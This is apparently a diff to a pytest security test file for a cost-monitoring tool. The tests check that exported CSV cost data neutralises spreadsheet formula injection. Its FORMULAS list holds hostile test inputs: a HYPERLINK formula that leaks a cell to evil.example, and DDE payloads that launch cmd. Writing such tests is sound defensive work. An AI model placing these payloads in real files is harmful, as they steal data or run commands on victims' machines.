@@ -3,23 +3,27 @@ a safe example config, a NetworkPolicy that admits only what it must."""
 
 from __future__ import annotations
 
+import csv
 import io
 from dataclasses import replace
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
+import pyarrow.parquet as pq
 import pytest
 from click.testing import CliRunner
 from PIL import Image
 
 from spendwatch.cli import main
+from spendwatch.export import export_focus
 from spendwatch.killswitch.engine import run_killswitch
 from spendwatch.killswitch.journal import list_actions
 from spendwatch.notify.charts import incident_chart, tick_label
 from spendwatch.store import Store
 from spendwatch.terminal import SafeStream, clean
 from tests.doubles.clock import FixedClock
-from tests.security.detectors import terminal_injections
-from tests.security.records import NOW, hostile_incident, hostile_settings, store_incident
+from tests.security.detectors import formula_cells, terminal_injections
+from tests.security.records import NOW, hostile_cost_lines, hostile_incident, hostile_settings, store_incident
 
 MATH = ["$x$", "$\\frac{$", "$\\undefinedcommand$", "$$", "USD$", "$\\$$", "$" * 9]
 
@@ -109,3 +113,43 @@ def test_on_a_real_terminal_too(text: str) -> None:
     stream.write(f"{text}\n")
     assert terminal_injections(out.getvalue()) == [] and terminal_injections(clean(text)) == []
     assert "\n" not in clean(text)
+
+
+# -- CSV formulas in costs export ----------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def _hostile_lines(store: Store, text: str) -> None:
+    day = datetime(2026, 11, 3, tzinfo=UTC)
+    store.replace_cost_lines("bills", day, day + timedelta(days=1), hostile_cost_lines(text, day))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_costs_export_csv_holds_no_formula(tmp_path: Path, text: str) -> None:
+    store = Store(tmp_path / "s.duckdb", clock=FixedClock(NOW))
+    _hostile_lines(store, text)
+    out = tmp_path / "out.csv"
+    assert export_focus(store, out) == 2
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert formula_cells(rows) == []
+    header, hostile = rows[0], rows[1]
+    assert hostile[header.index("BilledCost")] == "-3.5"  # numbers stay numbers
+    assert hostile[header.index("SubAccountId")] == "'" + text  # text shown as it was, as text
+
+
+def test_parquet_keeps_the_values_as_they_are(tmp_path: Path) -> None:
+    store = Store(tmp_path / "s.duckdb", clock=FixedClock(NOW))
+    _hostile_lines(store, FORMULAS[0])
+    out = tmp_path / "out.parquet"
+    export_focus(store, out)
+    assert FORMULAS[0] in pq.read_table(out).column("SubAccountId").to_pylist()
